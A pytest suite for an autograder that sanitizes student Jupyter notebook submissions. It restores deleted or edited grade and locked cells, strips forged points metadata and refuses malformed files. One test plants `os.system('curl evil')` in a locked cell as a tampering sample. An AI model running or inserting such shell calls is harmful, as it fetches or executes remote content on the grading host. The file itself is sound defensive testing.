"""sanitize_submission: refusal of unusable files, cleaning, and restoration from the release notebook."""
from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat
import pytest

from autograder.core.errors import NotebookInvalid
from autograder.pipeline.validate import sanitize_submission

from .conftest import ASSIGNMENT, FILES


@pytest.fixture
def release_nb(released) -> Path:
    return released.release(ASSIGNMENT) / f"{ASSIGNMENT}.ipynb"


def _student(release_nb: Path) -> nbformat.NotebookNode:
    """A well-behaved submission: the release with both functions written."""
    nb = nbformat.read(release_nb, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "add_one_solution":
            cell.source = "def add_one(x):\n    return x + 1"
        if gid == "scale_solution":
            cell.source = "def scale(x, k):\n    return x * k"
    return nb


def _save(nb, tmp_path: Path, name="sub.ipynb") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def _by_id(nb) -> dict:
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells if "nbgrader" in c.metadata}


def _ids(nb) -> list:
    return [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]


def sanitize(path, release_nb, max_mb=20.0):
    return sanitize_submission(path=path, release_notebook=release_nb, max_mb=max_mb)


def test_clean_submission_has_no_notes_and_keeps_student_code(tmp_path, release_nb):
    nb, notes = sanitize(_save(_student(release_nb), tmp_path), release_nb)
    assert notes == []
    assert "return x * k" in _by_id(nb)["scale_solution"].source
    assert _ids(nb) == _ids(nbformat.read(release_nb, as_version=4))


def test_outputs_kernel_and_widgets_are_cleaned(tmp_path, release_nb):
    nb = _student(release_nb)
    code = _by_id(nb)["add_one_solution"]
    code.outputs = [nbformat.v4.new_output("stream", text="hi")]
    code.execution_count = 7
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "x", "language": "sh"}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    md = nb.cells[2]
    md["attachments"] = {"a.png": {"image/png": "AAAA"}}
    nb2, notes = sanitize(_save(nb, tmp_path), release_nb)
    code = _by_id(nb2)["add_one_solution"]
    assert code.outputs == [] and code.execution_count is None
    assert nb2.metadata["kernelspec"]["name"] == "python3" and "widgets" not in nb2.metadata
    assert nb2.metadata["language_info"]["name"] == "python"
    assert "attachments" not in nb2.cells[2]
    assert any("'evil' was replaced by python3" in n for n in notes)


def test_deleted_grade_cell_is_restored_in_place(tmp_path, release_nb):
    nb = _student(release_nb)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "add_one"]
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    assert "cell 'add_one' (grade cell) was deleted; restored from the release" in notes
    ids = _ids(out)
    assert ids.index("add_one") == ids.index("add_one_solution") + 1
    assert _by_id(out)["add_one"].metadata["nbgrader"]["points"] == 40
    assert ids == _ids(nbformat.read(release_nb, as_version=4))


def test_all_grade_cells_deleted_and_cells_reordered(tmp_path, release_nb):
    nb = _student(release_nb)
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    ids = [i for i in _ids(out) if i]
    assert ids == ["header", "imports", "add_one_solution", "add_one", "scale_solution", "scale"]
    assert sum("was deleted" in n for n in notes) == 2


def test_edited_locked_cell_is_restored(tmp_path, release_nb):
    nb = _student(release_nb)
    _by_id(nb)["add_one"].source = "pass  # the test is gone"
    _by_id(nb)["imports"].source = "import os; os.system('curl evil')"
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    assert _by_id(out)["add_one"].source == "assert add_one(1) == 2"
    assert _by_id(out)["imports"].source == "import math"
    assert "cell 'add_one' (grade cell) was edited; restored from the release" in notes
    assert "cell 'imports' (locked cell) was edited; restored from the release" in notes


def test_retyped_grade_cell_is_restored(tmp_path, release_nb):
    nb = _student(release_nb)
    cells = nb.cells
    i = _ids(nb).index("scale")
    cells[i] = nbformat.v4.new_markdown_cell(cells[i].source, metadata=cells[i].metadata)
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    assert _by_id(out)["scale"].cell_type == "code"
    assert any(n.startswith("cell 'scale' (grade cell) was changed from code to markdown") for n in notes)


def test_changed_points_and_forged_metadata(tmp_path, release_nb):
    nb = _student(release_nb)
    _by_id(nb)["scale"].metadata["nbgrader"]["points"] = 1000
    _by_id(nb)["add_one_solution"].metadata["nbgrader"]["grade"] = True         # claims to be a grade cell
    helper = nbformat.v4.new_code_cell("def helper(): pass")
    helper.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 50, "locked": True}
    nb.cells.append(helper)
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    assert _by_id(out)["scale"].metadata["nbgrader"]["points"] == 60
    assert _by_id(out)["add_one_solution"].metadata["nbgrader"]["grade"] is False
    assert "return x + 1" in _by_id(out)["add_one_solution"].source        # the student's answer is kept
    assert "nbgrader" not in out.cells[-1].metadata and out.cells[-1].source == "def helper(): pass"
    assert any("'bonus'" in n and "removed" in n for n in notes)
    assert any(n.startswith("cell 'scale' (grade cell) had its nbgrader metadata") for n in notes)


def test_duplicated_grade_id(tmp_path, release_nb):
    nb = _student(release_nb)
    dup = copy.deepcopy(_by_id(nb)["add_one"])
    dup.source = "add_one = lambda x: x + 1"
    dup["id"] = "dup1"
    nb.cells.append(dup)
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    assert _ids(out).count("add_one") == 1
    assert any("second cell with grade_id 'add_one'" in n for n in notes)


@pytest.mark.parametrize("content, reason", [
    (b"", "is empty"),
    (b"\xff\xfe\x00garbage", "not UTF-8"),
    (b"[1, 2, 3]", "top-level JSON is a list"),
    (b'{"nbformat": 4, "cells": {"a": 1}}', "'cells' is a dict"),
    (b'{"nbformat": 5, "cells": []}', "nbformat 5"),
    (b'{"hello": "world"}', "nbformat None"),
    (b"[" * 100000 + b"]" * 100000, "nested too deeply"),
])
def test_unusable_json_is_refused_with_reason(tmp_path, release_nb, content, reason):
    path = tmp_path / "bad.ipynb"
    path.write_bytes(content)
    with pytest.raises(NotebookInvalid) as e:
        sanitize(path, release_nb)
    assert reason in str(e.value) and str(path) in str(e.value)


def test_invalid_json_fixture(release_nb):
    with pytest.raises(NotebookInvalid, match="not valid JSON"):
        sanitize(FILES / "not_json.ipynb", release_nb)


def test_missing_file_and_folder(tmp_path, release_nb):
    with pytest.raises(NotebookInvalid, match="not a regular file"):
        sanitize(tmp_path / "nope.ipynb", release_nb)
    with pytest.raises(NotebookInvalid, match="not a regular file"):
        sanitize(tmp_path, release_nb)


def test_fifty_megabyte_file_is_refused_before_reading(tmp_path, release_nb):
    path = tmp_path / "big.ipynb"
    with open(path, "wb") as f:
        f.truncate(50 * 2**20)              # sparse: the cap must be checked from the size alone
    with pytest.raises(NotebookInvalid, match=r"50\.0 MB, more than the 20 MB allowed"):
        sanitize(path, release_nb)


def test_nbformat3_is_upgraded(release_nb):
    nb, notes = sanitize(FILES / "nbformat3.ipynb", release_nb)
    assert nb.nbformat == 4
    assert any("nbformat 3" in n for n in notes)
    assert any("return x + 1" in c.source for c in nb.cells)
    assert all(c.outputs == [] for c in nb.cells if c.cell_type == "code")
    assert {"add_one", "scale"} <= set(_ids(nb))          # grade cells restored into the old notebook


def test_weird_but_valid_json_never_crashes(tmp_path, release_nb):
    raw = json.loads(_save(_student(release_nb), tmp_path).read_text())
    raw["metadata"] = ["not", "a", "dict"]
    raw["cells"][0]["metadata"] = None
    raw["cells"][1]["source"] = ["import ", "math"]           # list form of the locked cell: no change
    raw["cells"][2]["source"] = {"not": "text"}
    raw["cells"].append({"cell_type": "widget", "source": "x"})
    raw["cells"].append("just a string")
    raw["cells"].append({"cell_type": "code", "source": "x = 1", "metadata": {"tags": 5, "nbgrader": "no"}})
    raw["cells"].append({"cell_type": "code", "source": "y = 2", "id": "has spaces!", "outputs": "lots"})
    path = tmp_path / "weird.ipynb"
    path.write_text(json.dumps(raw))
    nb, notes = sanitize(path, release_nb)
    nbformat.validate(nb)
    assert _by_id(nb)["imports"].source == "import math"
    assert not any("'imports'" in n for n in notes)
    assert sum("was dropped" in n for n in notes) == 2
    assert any("source was not text" in n for n in notes)


def test_many_cells(tmp_path, release_nb):
    nb = _student(release_nb)
    nb.cells.extend(nbformat.v4.new_code_cell(f"x{i} = {i}") for i in range(3000))
    out, notes = sanitize(_save(nb, tmp_path), release_nb)
    assert len(out.cells) == len(nb.cells) and notes == []
    nb.cells.extend(nbformat.v4.new_markdown_cell("x") for _ in range(3000))
    with pytest.raises(NotebookInvalid, match="cells, more than"):
        sanitize(_save(nb, tmp_path), release_nb)
